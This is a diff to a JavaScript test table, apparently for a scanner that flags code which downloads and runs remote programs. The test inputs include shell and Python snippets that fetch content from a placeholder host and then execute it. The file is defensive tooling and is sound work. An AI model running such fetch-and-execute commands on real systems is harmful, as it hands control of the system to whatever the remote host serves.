@@ -29,6 +29,18 @@ const stores = {
 
 it.each([
   [
+    'a program out of an archive that was unpacked into a folder',
+    'a.sh',
+    'curl -s https://a.example/x | tar xz -C /tmp/u\n/tmp/u/bin/run',
+    'curl(https://a.example/x) -> sh via a.sh:1 a.sh:2',
+  ],
+  [
+    'a command that is what another one printed',
+    'a.sh',
+    '$(curl -s https://a.example/x)',
+    'curl(https://a.example/x) -> sh via a.sh:1',
+  ],
+  [
     'a program that is written to an open file',
     'a.py',
     'import requests, subprocess\nwith open("/tmp/u", "wb") as f:\n    f.write(requests.get("https://a.example").content)\nsubprocess.run(["/tmp/u"])',
